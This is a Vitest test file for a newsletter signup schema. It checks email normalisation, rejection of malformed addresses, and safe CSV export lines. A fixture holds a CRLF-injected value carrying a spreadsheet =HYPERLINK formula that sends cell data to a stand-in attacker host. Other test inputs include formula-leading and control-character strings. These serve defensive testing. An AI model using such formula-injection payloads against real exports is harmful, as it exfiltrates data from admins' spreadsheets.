import { describe, expect, it } from 'vitest';
import { NEWSLETTER_MESSAGES } from './newsletter';
import { newsletterEmailSchema, newsletterExportLine } from './newsletter-schemas';

describe('newsletter email', () => {
  it('is stored trimmed and lower-cased', () => {
    expect(newsletterEmailSchema.parse('  Ada@Example.COM ')).toBe('ada@example.com');
  });

  it.each(['', '   ', 'no-at-sign.example.com', `${'a'.repeat(250)}@b.co`])('refuses %j with the spec message', (v) => {
    const result = newsletterEmailSchema.safeParse(v);
    expect(result.success).toBe(false);
    expect(result.error?.issues[0]?.message).toBe(NEWSLETTER_MESSAGES.invalidEmail);
  });
});

/** One anonymous POST that planted three lines, one a spreadsheet formula, in the admin's export. */
const PLANTED = 'kid@example.com\r\n=HYPERLINK("http://evil.example/?"&A1,"Click")@x\r\nplanted@evil.example';

describe('newsletter email: one plausible address, nothing more', () => {
  it.each([
    PLANTED,
    'a@b.co\nc@d.co',
    'a\u0000b@example.com',
    'a\u202eb@example.com',
    '=cmd@example.com',
    'a@b',
    '@example.com',
    'x'.repeat(5000),
  ])('refuses %j with the spec message', (v) => {
    const result = newsletterEmailSchema.safeParse(v);
    expect(result.success).toBe(false);
    expect(result.error?.issues[0]?.message).toBe(NEWSLETTER_MESSAGES.invalidEmail);
  });
});

describe('the export line', () => {
  it('keeps a plausible stored address as it is', () => {
    expect(newsletterExportLine('ada@example.com')).toBe('ada@example.com');
  });

  it('leaves out a stored value that fails the rule (line breaks, a formula, control characters)', () => {
    for (const v of [PLANTED.toLowerCase(), '=hyperlink("x")@x', 'a\tb@example.com', ' a@example.com']) {
      expect(newsletterExportLine(v)).toBeNull();
    }
  });

  it('quotes a plausible address a spreadsheet would read as a formula', () => {
    expect(newsletterExportLine('-1+2@example.com')).toBe("'-1+2@example.com");
    expect(newsletterExportLine('+sum@example.com')).toBe("'+sum@example.com");
  });
});
